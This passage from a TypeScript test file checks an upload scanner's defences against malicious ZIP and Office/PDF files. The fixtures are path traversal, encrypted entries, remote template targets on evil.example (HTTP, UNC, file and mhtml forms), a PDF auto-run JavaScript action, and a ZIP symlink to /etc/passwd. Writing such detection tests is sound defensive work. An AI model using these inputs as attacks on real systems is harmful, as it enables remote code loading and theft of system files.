    ] as const) {
      const zip = patch(await zipOf([{ name: safe, bytes: 'x' }]), safe, unsafe);
      const verdict = await inspectZip(zip);
      expect(verdict.problem, unsafe).toBe('zip_path_traversal');
    }
    expect(isUnsafeEntryName('docs/cv.pdf')).toBe(false);
    expect(isUnsafeEntryName('a/../../b')).toBe(true);
  });

  it('refuses encrypted entries (general-purpose flag bit 0)', async () => {
    const zip = markEncrypted(await zipOf([{ name: 'secret.txt', bytes: 'x' }]));
    expect((await inspectZip(zip)).problem).toBe('zip_encrypted');
  });

  it('reads a ZIP spooled to disk by path, as the bulk intake does', async () => {
    const { mkdtemp, writeFile, rm } = await import('node:fs/promises');
    const dir = await mkdtemp('/tmp/vitae-zip-');
    try {
      await writeFile(`${dir}/a.zip`, await zipOf([{ name: 'cv.txt', bytes: 'Ada' }]));
      const verdict = await inspectZip(`${dir}/a.zip`);
      expect(verdict).toMatchObject({ problem: null, entries: [{ name: 'cv.txt', encrypted: false }] });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('says that random PK bytes inside image data are no ZIP', () => {
    const noise = Buffer.concat([
      PNG_1X1,
      Buffer.from('PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00\x10\x00\x00\x00\x99\x99\x00\x00\x00\x00', 'latin1'),
      Buffer.alloc(10),
    ]);
    expect(containsZip(noise)).toBe(false);
  });
});

describe('remote relationship targets', () => {
  it.each([
    ['http://evil.example/t.dotm', true],
    ['https://evil.example/t.dotm', true],
    ['ftp://evil.example/t.dotm', true],
    ['\\\\evil.example\\share\\t.dotm', true],
    ['//evil.example/share/t.dotm', true],
    ['file://evil.example/share/t.dotm', true],
    ['file:////evil.example/share/t.dotm', true],
    ['file:///\\\\evil.example\\share', true],
    ['file:///%5C%5Cevil.example%5Cshare', true],
    ['mhtml:https://evil.example/x!x', true],
    ['file:///C:\\Users\\ada\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm', false],
    ['file:///C:/Program%20Files/Microsoft%20Office/Templates/Normal.dotm', false],
    ['file://localhost/C:/Templates/Normal.dotm', false],
    ['file:///Users/ada/Templates/Normal.dotm', false],
    ['C:\\Templates\\Normal.dotm', false],
    ['Normal.dotm', false],
  ])('%s → remote: %s', (target, remote) => {
    expect(isRemoteTarget(target)).toBe(remote);
  });
});

describe('configuration per category', () => {
  it('runs only the checks of the category table', async () => {
    expect(DEFAULT_CATEGORY_CHECKS.csv_import).toEqual(['executable']);
    const withoutPdfChecks = new BuiltinScanner({ checks: { ...DEFAULT_CATEGORY_CHECKS, resume: ['executable', 'structure'] } });
    const js = rawPdf({ catalogExtra: '/OpenAction << /S /JavaScript /JS (x) >>' });
    expect((await scan(js, MIME.pdf, 'resume', withoutPdfChecks)).result).toBe('clean');
    expect((await scan(rawPdf({ eof: false }), MIME.pdf, 'resume', withoutPdfChecks)).result).toBe('rejected');
    expect((await scan(js, MIME.pdf, 'resume')).result).toBe('rejected');
    // a category not in the table gets every check
    expect(await reasonOf(js, MIME.pdf, 'some_new_category')).toBe('pdf_javascript');
  });

  it('refuses a document larger than it may read, rather than passing it unread', async () => {
    const small = new BuiltinScanner({ maxInspectedBytes: 1024 });
    const verdict = await scan(Buffer.concat([rawPdf(), Buffer.alloc(2048)]), MIME.pdf, 'resume', small);
    expect(verdict).toMatchObject({ result: 'rejected', reason: 'too_large_to_scan' });
  });

  it('describes its checks for /readyz and the README', () => {
    const summary = builtinChecksSummary();
    expect(summary.checks.map((check) => check.name)).toEqual(['executable', 'structure', 'pdf', 'ooxml', 'zip', 'image']);
    expect(summary.checks.flatMap((check) => check.reasons)).toContain('pdf_javascript');
    expect(summary.categories.logo).toEqual(['executable', 'structure', 'image']);
  });
});

function ascii85(data: Buffer): string {
  let out = '';
  for (let i = 0; i < data.length; i += 4) {
    const chunk = Buffer.alloc(4);
    data.copy(chunk, 0, i, i + 4);
    let value = chunk.readUInt32BE(0);
    const digits: string[] = [];
    for (let k = 0; k < 5; k += 1) {
      digits.unshift(String.fromCharCode((value % 85) + 33));
      value = Math.floor(value / 85);
    }
    out += digits.slice(0, Math.min(4, data.length - i) + 1).join('');
  }
  return out;
}

describe('symbolic links inside ZIP containers', () => {
  const withLink = async () => {
    const zip = new yazl.ZipFile();
    zip.addBuffer(Buffer.from('<w:document/>'), 'word/real.xml');
    // Unix file type "symbolic link" in the high half of the external attributes (0o120000 << 16).
    zip.addBuffer(Buffer.from('/etc/passwd'), 'word/document.xml', { mode: 0o120777 });
    zip.end();
    return collect(zip.outputStream);
  };

  it('are refused by the whole-archive check and never read as a part', async () => {
    const bytes = await withLink();
    expect((await inspectZip(bytes)).problem).toBe('zip_symlink');
    expect([...(await readZipEntries(bytes, (name) => name.startsWith('word/'))).keys()]).toEqual(['word/real.xml']);
    expect(await readZipEntry(bytes, 'word/document.xml')).toBeNull();
  });
});
